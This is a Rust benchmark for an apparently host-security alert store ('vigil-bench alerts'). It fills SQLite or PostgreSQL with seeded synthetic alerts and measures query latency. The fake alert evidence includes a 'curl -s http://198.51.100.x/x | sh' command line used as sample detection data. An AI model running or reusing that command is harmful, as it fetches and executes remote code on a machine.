//! `vigil-bench alerts`: latency of the alert list (`Store::alerts`, first page of 50 and its
//! total) with a large store, on SQLite or PostgreSQL.
//!
//! The store is filled through its own API: hosts enrolled with an install code, alerts
//! committed with `Store::ingest` in per-host batches, statuses set afterwards with
//! `Store::transition_alerts`. Everything is drawn from a fixed-seed generator, so two runs
//! with the same arguments hold the same data:
//!
//! - hosts: `--hosts`, a few of them noisy (the busiest holds about 1 % of all alerts);
//! - levels: 70 % reminder, 24 % suspicious, 6 % urgent, each level with its usual kinds;
//! - last seen: uniform over the last 60 days, one distinct dedup key per alert;
//! - statuses: about 65 % unhandled, 14 % handled, 8 % ignored, 5 % whitelisted and 8 % expired
//!   (expired only among alerts last seen more than 30 days ago, as the expiry rule has it).
//!
//! PostgreSQL gets a `VACUUM ANALYZE alerts` after the fill, which autovacuum would run on its
//! own after a million inserts; SQLite is queried as Vigil leaves it (no `ANALYZE`).

use crate::ingest::{check_postgres, Db};
use crate::util::{json_line, percentile, r2, until_interrupted};
use anyhow::{anyhow, bail, Context, Result};
use std::collections::BTreeMap;
use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use vigil_model::{AlertKind, AlertStatus, Level, NewAlert, Timestamp};
use vigil_store::{
    AlertFilter, IngestPlan, Ingested, InstallCodeRecord, NewHost, Store, Transition,
};

/// The goal for a filtered first page, per query shape.
const GOAL_P99_MS: f64 = 50.0;
const DAY: i64 = 86_400;
const SPREAD_DAYS: i64 = 60;
/// Unhandled alerts not seen for this long may be expired.
const EXPIRES_AFTER: i64 = vigil_model::ALERT_EXPIRES_AFTER_SECS;
const PAGE: i64 = 50;
const DEEP_OFFSET: i64 = 5000;
const PROGRESS_EVERY: usize = 100_000;
/// Alerts per `transition_alerts` call.
const TRANSITION_CHUNK: usize = 10_000;
/// Untimed queries per shape before the timed ones.
const WARMUP: usize = 5;

#[derive(Debug, clap::Args)]
pub struct Args {
    /// Storage backend: a SQLite file in a temporary directory, or a fresh schema in the
    /// PostgreSQL at VIGIL_TEST_PG_URL (default postgres://postgres@127.0.0.1:5432/test).
    #[arg(long, value_enum)]
    db: Db,
    /// Alerts in the store.
    #[arg(long, default_value_t = 1_000_000)]
    alerts: usize,
    /// Hosts the alerts belong to.
    #[arg(long, default_value_t = 1000)]
    hosts: usize,
    /// Timed queries per shape.
    #[arg(long, default_value_t = 300)]
    queries: usize,
    /// Alerts per `Store::ingest` call (one host each).
    #[arg(long, default_value_t = 1000)]
    batch: usize,
    /// Concurrent `Store::ingest` / `transition_alerts` calls while filling (SQLite serialises
    /// them on its one writer anyway).
    #[arg(long, default_value_t = 4)]
    writers: usize,
    /// Seed of the data and query generator.
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// Keep the SQLite file (its directory is printed) or the PostgreSQL schema, to inspect
    /// query plans afterwards.
    #[arg(long)]
    keep: bool,
}

/// Builds the runtime; the PostgreSQL schema is dropped even when the bench is interrupted.
pub fn main(args: Args) -> Result<()> {
    if args.alerts == 0 || args.hosts == 0 || args.queries == 0 || args.batch == 0 {
        bail!("--alerts, --hosts, --queries and --batch must be at least 1");
    }
    if args.writers == 0 {
        bail!("--writers must be at least 1");
    }
    if args.hosts > u32::MAX as usize {
        bail!("--hosts is too large");
    }
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .context("starting the async runtime")?;
    let outcome = rt.block_on(run(args));
    rt.shutdown_timeout(Duration::from_secs(2));
    outcome
}

async fn run(args: Args) -> Result<()> {
    let db = args.db.name();
    let tmp = tempfile::Builder::new()
        .prefix("vigil-bench-alerts-")
        .tempdir()?;
    let (url, schema) = match args.db {
        Db::Sqlite => (
            format!("sqlite://{}", tmp.path().join("vigil.db").display()),
            None,
        ),
        Db::Postgres => {
            check_postgres().await?;
            let schema = vigil_store::testing::fresh_postgres_schema().await;
            println!(
                "alerts ({db}): fresh schema {} in {}",
                schema.name,
                vigil_store::testing::postgres_base_url()
            );
            (schema.url.clone(), Some(schema))
        }
    };
    let outcome = until_interrupted(bench(&args, &url)).await;
    if args.keep {
        match &schema {
            Some(s) => println!(
                "alerts ({db}): schema {} kept (psql \"{}\" -c 'SET search_path = {}')",
                s.name,
                vigil_store::testing::postgres_base_url(),
                s.name
            ),
            None => {
                let dir = tmp.keep();
                println!(
                    "alerts ({db}): database kept: {}",
                    dir.join("vigil.db").display()
                );
            }
        }
    } else if let Some(schema) = schema {
        vigil_store::testing::drop_schema(&schema).await;
        println!("alerts ({db}): schema {} dropped", schema.name);
    }
    outcome
}

/// SplitMix64: small, fast and the same everywhere, so a seed names one data set.
struct Rng(u64);

impl Rng {
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in [0, 1).
    fn f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn below(&mut self, n: usize) -> usize {
        (self.f64() * n as f64) as usize % n.max(1)
    }

    fn weighted<T: Copy>(&mut self, table: &[(T, u32)]) -> T {
        let sum: u32 = table.iter().map(|(_, w)| w).sum();
        let mut x = self.below(sum as usize) as u32;
        for &(v, w) in table {
            if x < w {
                return v;
            }
            x -= w;
        }
        table[table.len() - 1].0
    }
}

const LEVELS: &[(Level, u32)] = &[
    (Level::Reminder, 70),
    (Level::Suspicious, 24),
    (Level::Urgent, 6),
];

/// The kinds each level usually comes with, and how often.
fn kinds_of(level: Level) -> &'static [(AlertKind, u32)] {
    use AlertKind::*;
    match level {
        Level::Reminder => &[
            (ConfigurationRisk, 40),
            (SuspiciousPort, 30),
            (AbnormalLogin, 15),
            (SuspiciousAccount, 10),
            (SuspiciousConnection, 5),
        ],
        Level::Suspicious => &[
            (SuspiciousProcess, 25),
            (BruteForce, 20),
            (SuspiciousConnection, 15),
            (Persistence, 10),
            (MaliciousScript, 10),
            (AbnormalLogin, 10),
            (SuspiciousAccount, 5),
            (WebThreat, 5),
        ],
        Level::Urgent => &[
            (MaliciousFile, 20),
            (Webshell, 15),
            (MaliciousNetworkAccess, 15),
            (ReverseShell, 10),
            (SensitiveFileTampering, 10),
            (NetworkAttack, 10),
            (ApplicationIntrusion, 10),
            (DataLeak, 5),
            (BruteForce, 5),
        ],
    }
}

/// Statuses other than `unhandled`, in per-mille of all alerts; `expired` is drawn apart.
const HANDLED_STATUSES: &[(AlertStatus, u32)] = &[
    (AlertStatus::Handled, 140),
    (AlertStatus::Ignored, 80),
    (AlertStatus::Whitelisted, 50),
];
/// Share of the alerts older than [`EXPIRES_AFTER`] that expired (≈ 8 % of all alerts).
const EXPIRED_OF_OLD: f64 = 0.16;

/// One alert as planned: the store is filled from these, in this order (oldest first).
#[derive(Debug, Clone, Copy)]
struct Planned {
    time: Timestamp,
    host: u32,
    kind: AlertKind,
    level: Level,
    status: AlertStatus,
}

fn plan(n: usize, hosts: usize, now: Timestamp, rng: &mut Rng) -> Vec<Planned> {
    let mut out: Vec<Planned> = (0..n)
        .map(|_| {
            // Host index skewed towards the first ones: P(index < k) = (k / hosts)^(2/3).
            let host = ((rng.f64().powf(1.5) * hosts as f64) as usize).min(hosts - 1) as u32;
            let level = rng.weighted(LEVELS);
            let kind = rng.weighted(kinds_of(level));
            let time = now - rng.below((SPREAD_DAYS * DAY) as usize) as i64;
            let old = now - time > EXPIRES_AFTER;
            let status = if old && rng.f64() < EXPIRED_OF_OLD {
                AlertStatus::Expired
            } else {
                let x = rng.below(1000) as u32;
                let mut acc = 0;
                let mut s = AlertStatus::Unhandled;
                for &(st, w) in HANDLED_STATUSES {
                    acc += w;
                    if x < acc {
                        s = st;
                        break;
                    }
                }
                s
            };
            Planned {
                time,
                host,
                kind,
                level,
                status,
            }
        })
        .collect();
    out.sort_by_key(|p| p.time);
    out
}

const PROCESSES: &[&str] = &[
    "/usr/bin/bash",
    "/usr/bin/python3",
    "/usr/sbin/sshd",
    "/usr/bin/curl",
    "/tmp/.x/kworker",
    "/usr/bin/nc",
    "/usr/sbin/nginx",
    "/usr/bin/perl",
];
const USERS: &[&str] = &["root", "www-data", "deploy", "postgres", "ubuntu"];

/// The alert an engine would raise; its dedup key ends with `:INDEX` (the plan's index).
fn new_alert(i: usize, p: &Planned) -> NewAlert {
    let process = PROCESSES[i % PROCESSES.len()];
    let user = USERS[(i / 7) % USERS.len()];
    let pid = 1000 + (i * 7919) % 60_000;
    let port = 1024 + (i * 104_729) % 60_000;
    let (name, evidence) = match p.kind {
        AlertKind::SuspiciousPort => (
            format!("New tcp port {port} listening on all interfaces ({process})"),
            vec![
                ("protocol".to_string(), "tcp".to_string()),
                ("address".to_string(), "0.0.0.0".to_string()),
                ("port".to_string(), port.to_string()),
                ("process".to_string(), process.to_string()),
                ("pid".to_string(), pid.to_string()),
            ],
        ),
        AlertKind::ConfigurationRisk => (
            format!("sshd allows password login for {user}"),
            vec![
                ("file".to_string(), "/etc/ssh/sshd_config".to_string()),
                (
                    "setting".to_string(),
                    "PasswordAuthentication yes".to_string(),
                ),
                ("user".to_string(), user.to_string()),
            ],
        ),
        AlertKind::AbnormalLogin | AlertKind::BruteForce => (
            format!(
                "{} for {user} from 203.0.{}.{}",
                if p.kind == AlertKind::BruteForce {
                    "Repeated failed logins"
                } else {
                    "Login at an unusual time"
                },
                (i / 256) % 256,
                i % 256
            ),
            vec![
                ("user".to_string(), user.to_string()),
                (
                    "source".to_string(),
                    format!("203.0.{}.{}", (i / 256) % 256, i % 256),
                ),
                ("service".to_string(), "sshd".to_string()),
                ("attempts".to_string(), (1 + i % 40).to_string()),
            ],
        ),
        kind => (
            format!("{}: {process} (pid {pid}) as {user}", kind.as_str()),
            vec![
                ("process".to_string(), process.to_string()),
                ("pid".to_string(), pid.to_string()),
                ("user".to_string(), user.to_string()),
                (
                    "cmdline".to_string(),
                    format!(
                        "{process} -c 'curl -s http://198.51.100.{}/x | sh'",
                        i % 256
                    ),
                ),
                (
                    "sha256".to_string(),
                    format!("{:064x}", i as u128 * 0x9e37_79b9_7f4a_7c15),
                ),
            ],
        ),
    };
    NewAlert {
        kind: p.kind,
        level: p.level,
        name,
        key: format!("{}:{i}", p.kind.as_str()),
        evidence,
        time: p.time,
    }
}

/// The plan index a stored alert was made from.
fn plan_index(key: &str) -> Option<usize> {
    key.rsplit(':').next()?.parse().ok()
}

fn unix_now() -> Timestamp {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0)
}

/// One `Store::ingest` call: alerts of one host, by plan index.
struct Batch {
    host: u32,
    seq: i64,
    alerts: Vec<usize>,
}

async fn bench(args: &Args, url: &str) -> Result<()> {
    let db = args.db.name();
    let store = vigil_store::open(url)
        .await
        .with_context(|| format!("opening {url}"))?;
    let now = unix_now();
    let mut rng = Rng(args.seed);

    let t_plan = Instant::now();
    let plan = Arc::new(plan(args.alerts, args.hosts, now, &mut rng));
    println!(
        "alerts ({db}): planned {} alerts on {} hosts over {SPREAD_DAYS} days in {:.1} s (seed {})",
        args.alerts,
        args.hosts,
        t_plan.elapsed().as_secs_f64(),
        args.seed
    );
    print_mix(&plan);

    // Hosts, enrolled as the server does it.
    let t_fill = Instant::now();
    let host_ids = Arc::new(enroll(store.as_ref(), args.hosts, now, &mut rng).await?);
    let enroll_secs = t_fill.elapsed().as_secs_f64();
    println!(
        "alerts ({db}): {} hosts enrolled in {enroll_secs:.1} s",
        host_ids.len()
    );

    // Alerts.
    let t_ingest = Instant::now();
    insert(args, store.clone(), plan.clone(), host_ids.clone(), now).await?;
    let ingest_secs = t_ingest.elapsed().as_secs_f64();
    let insert_rate = args.alerts as f64 / ingest_secs;
    println!(
        "alerts ({db}): {} alerts inserted in {ingest_secs:.1} s ({insert_rate:.0} alerts/s, {}-alert Store::ingest batches, {} writers)",
        args.alerts, args.batch, args.writers
    );

    // Statuses.
    let t_status = Instant::now();
    let changed = set_statuses(args, store.clone(), &plan, &host_ids, now).await?;
    let status_secs = t_status.elapsed().as_secs_f64();
    println!("alerts ({db}): {changed} statuses set with transition_alerts in {status_secs:.1} s");
    let fill_secs = t_fill.elapsed().as_secs_f64();

    // What autovacuum would do after a million inserts, done now so it does not run mid-bench.
    let mut vacuum_secs = 0.0;
    if args.db == Db::Postgres {
        let t = Instant::now();
        let client = pg_client(url).await?;
        client
            .batch_execute("VACUUM ANALYZE alerts")
            .await
            .context("VACUUM ANALYZE alerts")?;
        vacuum_secs = t.elapsed().as_secs_f64();
        println!("alerts ({db}): VACUUM ANALYZE alerts in {vacuum_secs:.1} s");
    }

    // Counts are capped at the requested page's end, so ask for the last planned alert's page:
    // the total is then exact up to one past the plan.
    let last_page = AlertFilter {
        offset: (args.alerts as i64 - 1).max(0),
        limit: 1,
        ..AlertFilter::default()
    };
    let (_, total) = store.alerts(&last_page).await?;
    if total != args.alerts as i64 {
        bail!(
            "the store holds {total} alerts, {} were planned",
            args.alerts
        );
    }
    let size = db_size(args.db, url).await;
    println!(
        "alerts ({db}): store filled in {fill_secs:.1} s (enroll {enroll_secs:.1} s, ingest {ingest_secs:.1} s, statuses {status_secs:.1} s); {total} alerts, {}",
        size.as_deref().unwrap_or("size unknown")
    );

    // Queries.
    println!(
        "alerts ({db}): {} timed queries per shape (after {WARMUP} untimed), limit {PAGE}, each Store::alerts call = page + total count",
        args.queries
    );
    let mut qrng = Rng(args.seed ^ 0x5eed_0fa1_e7e7);
    let mut results = Vec::new();
    for shape in Shape::ALL {
        let r = measure(store.as_ref(), shape, args.queries, &host_ids, &mut qrng).await?;
        let verdict = if r.p99_ms < GOAL_P99_MS {
            "met"
        } else {
            "NOT met"
        };
        println!(
            "  {:<32} p50 {:>8.2} ms   p99 {:>8.2} ms   max {:>8.2} ms   total {:>9}   goal p99 < {GOAL_P99_MS:.0} ms: {verdict}",
            shape.label(),
            r.p50_ms,
            r.p99_ms,
            r.max_ms,
            r.total_desc(),
        );
        results.push((shape, r));
    }
    let met = results
        .iter()
        .filter(|(_, r)| r.p99_ms < GOAL_P99_MS)
        .count();
    println!(
        "alerts ({db}): goal p99 < {GOAL_P99_MS:.0} ms met by {met} of {} shapes",
        results.len()
    );

    let shapes: Vec<serde_json::Value> = results
        .iter()
        .map(|(shape, r)| {
            serde_json::json!({
                "shape": shape.id(),
                "p50_ms": r2(r.p50_ms),
                "p99_ms": r2(r.p99_ms),
                "max_ms": r2(r.max_ms),
                "total_min": r.total_min,
                "total_max": r.total_max,
                "total_mean": r.total_mean.round(),
                "goal_met": r.p99_ms < GOAL_P99_MS,
            })
        })
        .collect();
    let json = serde_json::json!({
        "db": db,
        "alerts": args.alerts,
        "hosts": args.hosts,
        "queries": args.queries,
        "limit": PAGE,
        "seed": args.seed,
        "fill_seconds": r2(fill_secs),
        "enroll_seconds": r2(enroll_secs),
        "ingest_seconds": r2(ingest_secs),
        "insert_alerts_per_sec": insert_rate.round(),
        "status_seconds": r2(status_secs),
        "vacuum_analyze_seconds": r2(vacuum_secs),
        "goal_p99_ms": GOAL_P99_MS,
        "goal_met_shapes": met,
        "shapes": shapes,
    });
    println!("{}", json_line("alerts", json));
    Ok(())
}

fn print_mix(plan: &[Planned]) {
    let n = plan.len().max(1) as f64;
    let mut levels: BTreeMap<&str, usize> = BTreeMap::new();
    let mut statuses: BTreeMap<&str, usize> = BTreeMap::new();
    let mut per_host: HashMap<u32, usize> = HashMap::new();
    for p in plan {
        *levels.entry(p.level.as_str()).or_default() += 1;
        *statuses.entry(p.status.as_str()).or_default() += 1;
        *per_host.entry(p.host).or_default() += 1;
    }
    let pct = |m: &BTreeMap<&str, usize>| {
        let mut v: Vec<_> = m.iter().collect();
        v.sort_by(|a, b| b.1.cmp(a.1));
        v.iter()
            .map(|(k, c)| format!("{k} {:.1}%", **c as f64 * 100.0 / n))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let busiest = per_host.values().max().copied().unwrap_or(0);
    let quietest = per_host.values().min().copied().unwrap_or(0);
    println!("  levels:   {}", pct(&levels));
    println!("  statuses: {}", pct(&statuses));
    println!(
        "  per host: {busiest} alerts on the busiest, {quietest} on the quietest, {:.0} on average",
        n / per_host.len().max(1) as f64
    );
}

async fn enroll(
    store: &dyn Store,
    hosts: usize,
    now: Timestamp,
    rng: &mut Rng,
) -> Result<Vec<String>> {
    let code_hash = format!("{:064x}", u128::from(rng.next_u64()));
    store
        .create_install_code(&InstallCodeRecord {
            id: "ic-bench-alerts".into(),
            code_hash: code_hash.clone(),
            hint: "bench0".into(),
            group: "bench".into(),
            os: "linux".into(),
            provider: "idc".into(),
            labels: BTreeMap::from([("bench".to_string(), "yes".to_string())]),
            proxy_cluster: None,
            created_at: now - SPREAD_DAYS * DAY - DAY,
            expires_at: now + DAY,
            revoked_at: None,
            uses: 0,
            max_uses: None,
        })
        .await
        .context("creating the install code")?;
    let mut ids = Vec::with_capacity(hosts);
    for idx in 0..hosts {
        let id = format!("h-{:016x}", rng.next_u64());
        let os = crate::events::os_info(idx);
        let host = NewHost {
            id: id.clone(),
            hostname: os.hostname.clone(),
            public_key: rng.next_u64().to_le_bytes().repeat(4),
            agent_version: vigil_agent::VERSION.to_string(),
            os_json: serde_json::to_string(&os)?,
        };
        store
            .enroll_host(&code_hash, &host, now - SPREAD_DAYS * DAY)
            .await?
            .map_err(|e| anyhow!("enrolling host {idx}: {e}"))?;
        ids.push(id);
    }
    Ok(ids)
}

/// Commits the plan through `Store::ingest`, oldest alerts first, `--batch` alerts of one host
/// per call. Each host's batches go through one writer, in sequence-number order.
async fn insert(
    args: &Args,
    store: Arc<dyn Store>,
    plan: Arc<Vec<Planned>>,
    host_ids: Arc<Vec<String>>,
    now: Timestamp,
) -> Result<()> {
    let mut open: HashMap<u32, Vec<usize>> = HashMap::new();
    let mut seqs: HashMap<u32, i64> = HashMap::new();
    let mut batches: Vec<Batch> = Vec::new();
    let mut cut = |host: u32, alerts: Vec<usize>, batches: &mut Vec<Batch>| {
        let seq = seqs.entry(host).or_insert(0);
        *seq += 1;
        batches.push(Batch {
            host,
            seq: *seq,
            alerts,
        });
    };
    for (i, p) in plan.iter().enumerate() {
        let buf = open.entry(p.host).or_default();
        buf.push(i);
        if buf.len() == args.batch {
            let full = std::mem::take(buf);
            cut(p.host, full, &mut batches);
        }
    }
    let mut rest: Vec<(u32, Vec<usize>)> =
        open.into_iter().filter(|(_, v)| !v.is_empty()).collect();
    rest.sort_by_key(|(_, v)| v[0]);
    for (host, alerts) in rest {
        cut(host, alerts, &mut batches);
    }
    // Oldest first, so alert ids roughly follow time as in a live store.
    batches.sort_by_key(|b| b.alerts[0]);

    let mut lanes: Vec<Vec<Batch>> = (0..args.writers).map(|_| Vec::new()).collect();
    for b in batches {
        lanes[b.host as usize % args.writers].push(b);
    }
    let done = Arc::new(AtomicUsize::new(0));
    let start = Instant::now();
    let mut set = JoinSet::new();
    for lane in lanes {
        let (store, plan, host_ids, done) =
            (store.clone(), plan.clone(), host_ids.clone(), done.clone());
        set.spawn(async move {
            for b in lane {
                let alerts: Vec<(NewAlert, Option<i64>)> = b
                    .alerts
                    .iter()
                    .map(|&i| (new_alert(i, &plan[i]), None))
                    .collect();
                let host = &host_ids[b.host as usize];
                let raised = alerts.len();
                let out = store
                    .ingest(IngestPlan::new(host, b.seq, Vec::new(), alerts, now))
                    .await?;
                if out != Ingested::Stored {
                    bail!(
                        "Store::ingest of host {host} seq {} was not stored ({out:?})",
                        b.seq
                    );
                }
                let before = done.fetch_add(raised, Ordering::Relaxed);
                let after = before + raised;
                if before / PROGRESS_EVERY != after / PROGRESS_EVERY {
                    let secs = start.elapsed().as_secs_f64();
                    println!(
                        "  {:>9} alerts in {secs:>6.1} s ({:.0} alerts/s)",
                        after / PROGRESS_EVERY * PROGRESS_EVERY,
                        after as f64 / secs
                    );
                }
            }
            Ok(())
        });
    }
    while let Some(r) = set.join_next().await {
        r.map_err(|e| anyhow!("an ingest task failed: {e}"))??;
    }
    Ok(())
}

/// Reads every alert back (per host, pages of 1,000) to learn its id, then moves the planned
/// ones from `unhandled` to their status with `transition_alerts`, 10,000 per call.
async fn set_statuses(
    args: &Args,
    store: Arc<dyn Store>,
    plan: &[Planned],
    host_ids: &[String],
    now: Timestamp,
) -> Result<usize> {
    let mut targets: BTreeMap<&'static str, (AlertStatus, Vec<i64>)> = BTreeMap::new();
    let mut seen = 0usize;
    for host in host_ids {
        let mut offset = 0;
        loop {
            let (page, total) = store
                .alerts(&AlertFilter {
                    host_id: Some(host.clone()),
                    limit: 1000,
                    offset,
                    ..AlertFilter::default()
                })
                .await?;
            for a in &page {
                let i = plan_index(&a.key)
                    .filter(|&i| i < plan.len())
                    .with_context(|| {
                        format!("alert {} has the unexpected key {:?}", a.id, a.key)
                    })?;
                let to = plan[i].status;
                if to != AlertStatus::Unhandled {
                    targets
                        .entry(to.as_str())
                        .or_insert_with(|| (to, Vec::new()))
                        .1
                        .push(a.id);
                }
            }
            seen += page.len();
            offset += page.len() as i64;
            if page.is_empty() || offset >= total {
                break;
            }
        }
    }
    if seen != plan.len() {
        bail!("read back {seen} alerts, {} were inserted", plan.len());
    }
    let limit = Arc::new(Semaphore::new(args.writers));
    let mut set = JoinSet::new();
    for (to, ids) in targets.into_values() {
        for chunk in ids.chunks(TRANSITION_CHUNK) {
            let (store, limit, chunk) = (store.clone(), limit.clone(), chunk.to_vec());
            set.spawn(async move {
                let _permit = limit.acquire_owned().await?;
                let out = store
                    .transition_alerts(
                        &chunk,
                        &[AlertStatus::Unhandled],
                        to,
                        "bench",
                        "set by vigil-bench",
                        now,
                    )
                    .await?;
                let changed = out
                    .iter()
                    .filter(|t| matches!(t, Transition::Changed(_)))
                    .count();
                if changed != chunk.len() {
                    bail!(
                        "transition_alerts to {} changed {changed} of {} alerts",
                        to.as_str(),
                        chunk.len()
                    );
                }
                Ok(changed)
            });
        }
    }
    let mut changed = 0;
    while let Some(r) = set.join_next().await {
        changed += r.map_err(|e| anyhow!("a status task failed: {e}"))??;
    }
    Ok(changed)
}

async fn pg_client(url: &str) -> Result<tokio_postgres::Client> {
    let (client, conn) = tokio_postgres::connect(url, tokio_postgres::NoTls)
        .await
        .context("connecting to PostgreSQL")?;
    tokio::spawn(conn);
    Ok(client)
}

/// The database's size on disk, for the report.
async fn db_size(db: Db, url: &str) -> Option<String> {
    let mib = |b: u64| b as f64 / 1048576.0;
    match db {
        Db::Sqlite => {
            let path = PathBuf::from(url.strip_prefix("sqlite://")?);
            let main = std::fs::metadata(&path).ok()?.len();
            let wal = std::fs::metadata(path.with_extension("db-wal"))
                .map(|m| m.len())
                .unwrap_or(0);
            Some(format!(
                "database file {:.0} MiB (+ WAL {:.0} MiB)",
                mib(main),
                mib(wal)
            ))
        }
        Db::Postgres => {
            let client = pg_client(url).await.ok()?;
            let row = client
                .query_one(
                    "SELECT pg_relation_size('alerts'), pg_indexes_size('alerts')",
                    &[],
                )
                .await
                .ok()?;
            let (table, indexes): (i64, i64) = (row.get(0), row.get(1));
            Some(format!(
                "alerts table {:.0} MiB + indexes {:.0} MiB",
                mib(table as u64),
                mib(indexes as u64)
            ))
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shape {
    NoFilter,
    Unhandled,
    UrgentUnhandled,
    Host,
    KindUnhandled,
    HostSuspicious,
    DeepPage,
}

impl Shape {
    const ALL: [Shape; 7] = [
        Shape::NoFilter,
        Shape::Unhandled,
        Shape::UrgentUnhandled,
        Shape::Host,
        Shape::KindUnhandled,
        Shape::HostSuspicious,
        Shape::DeepPage,
    ];

    fn id(self) -> &'static str {
        match self {
            Shape::NoFilter => "no_filter",
            Shape::Unhandled => "status",
            Shape::UrgentUnhandled => "level_status",
            Shape::Host => "host",
            Shape::KindUnhandled => "kind_status",
            Shape::HostSuspicious => "host_level",
            Shape::DeepPage => "offset_5000",
        }
    }

    fn label(self) -> &'static str {
        match self {
            Shape::NoFilter => "no filter",
            Shape::Unhandled => "status=unhandled",
            Shape::UrgentUnhandled => "level=urgent status=unhandled",
            Shape::Host => "host=X (random)",
            Shape::KindUnhandled => "kind=Y (random) status=unhandled",
            Shape::HostSuspicious => "host=X level=suspicious",
            Shape::DeepPage => "no filter, offset 5000",
        }
    }

    /// The filter of one query; hosts and kinds drawn uniformly.
    fn filter(self, rng: &mut Rng, host_ids: &[String]) -> AlertFilter {
        let mut f = AlertFilter {
            limit: PAGE,
            ..AlertFilter::default()
        };
        match self {
            Shape::NoFilter => {}
            Shape::Unhandled => f.status = Some(AlertStatus::Unhandled),
            Shape::UrgentUnhandled => {
                f.level = Some(Level::Urgent);
                f.status = Some(AlertStatus::Unhandled);
            }
            Shape::Host => f.host_id = Some(host_ids[rng.below(host_ids.len())].clone()),
            Shape::KindUnhandled => {
                f.kind = Some(AlertKind::ALL[rng.below(AlertKind::ALL.len())]);
                f.status = Some(AlertStatus::Unhandled);
            }
            Shape::HostSuspicious => {
                f.host_id = Some(host_ids[rng.below(host_ids.len())].clone());
                f.level = Some(Level::Suspicious);
            }
            Shape::DeepPage => f.offset = DEEP_OFFSET,
        }
        f
    }
}

struct ShapeResult {
    p50_ms: f64,
    p99_ms: f64,
    max_ms: f64,
    total_min: i64,
    total_max: i64,
    total_mean: f64,
}

impl ShapeResult {
    fn total_desc(&self) -> String {
        if self.total_min == self.total_max {
            self.total_min.to_string()
        } else {
            format!("{}–{}", self.total_min, self.total_max)
        }
    }
}

async fn measure(
    store: &dyn Store,
    shape: Shape,
    queries: usize,
    host_ids: &[String],
    rng: &mut Rng,
) -> Result<ShapeResult> {
    let mut lat_us = Vec::with_capacity(queries);
    let mut totals = Vec::with_capacity(queries);
    for q in 0..WARMUP + queries {
        let f = shape.filter(rng, host_ids);
        let t = Instant::now();
        let (page, total) = store.alerts(&f).await?;
        let us = t.elapsed().as_micros() as u64;
        let expected = (total - f.offset).clamp(0, f.limit) as usize;
        if page.len() != expected {
            bail!(
                "{}: {} alerts on the page for a total of {total} (expected {expected})",
                shape.label(),
                page.len()
            );
        }
        if q >= WARMUP {
            lat_us.push(us);
            totals.push(total);
        }
    }
    lat_us.sort_unstable();
    let ms = |p: f64| percentile(&lat_us, p) as f64 / 1000.0;
    Ok(ShapeResult {
        p50_ms: ms(50.0),
        p99_ms: ms(99.0),
        max_ms: ms(100.0),
        total_min: totals.iter().copied().min().unwrap_or(0),
        total_max: totals.iter().copied().max().unwrap_or(0),
        total_mean: totals.iter().sum::<i64>() as f64 / totals.len().max(1) as f64,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plan_is_seeded_sorted_and_realistic() {
        let now = 1_800_000_000;
        let a = plan(20_000, 100, now, &mut Rng(7));
        let b = plan(20_000, 100, now, &mut Rng(7));
        assert!(a.iter().zip(&b).all(|(x, y)| x.time == y.time
            && x.host == y.host
            && x.kind == y.kind
            && x.status == y.status));
        assert!(a.windows(2).all(|w| w[0].time <= w[1].time));
        assert!(a
            .iter()
            .all(|p| p.time <= now && now - p.time < SPREAD_DAYS * DAY && (p.host as usize) < 100));
        assert!(a
            .iter()
            .filter(|p| p.status == AlertStatus::Expired)
            .all(|p| now - p.time > EXPIRES_AFTER));
        let share = |f: &dyn Fn(&Planned) -> bool| {
            a.iter().filter(|p| f(p)).count() as f64 / a.len() as f64
        };
        let reminder = share(&|p| p.level == Level::Reminder);
        let urgent = share(&|p| p.level == Level::Urgent);
        let unhandled = share(&|p| p.status == AlertStatus::Unhandled);
        assert!((0.67..0.73).contains(&reminder), "{reminder}");
        assert!((0.04..0.08).contains(&urgent), "{urgent}");
        assert!((0.60..0.72).contains(&unhandled), "{unhandled}");
    }

    #[test]
    fn keys_name_their_plan_index() {
        let p = Planned {
            time: 1,
            host: 0,
            kind: AlertKind::SuspiciousPort,
            level: Level::Reminder,
            status: AlertStatus::Unhandled,
        };
        let a = new_alert(123_456, &p);
        assert_eq!(a.key, "suspicious_port:123456");
        assert_eq!(plan_index(&a.key), Some(123_456));
        assert_eq!(plan_index("nope"), None);
    }
}
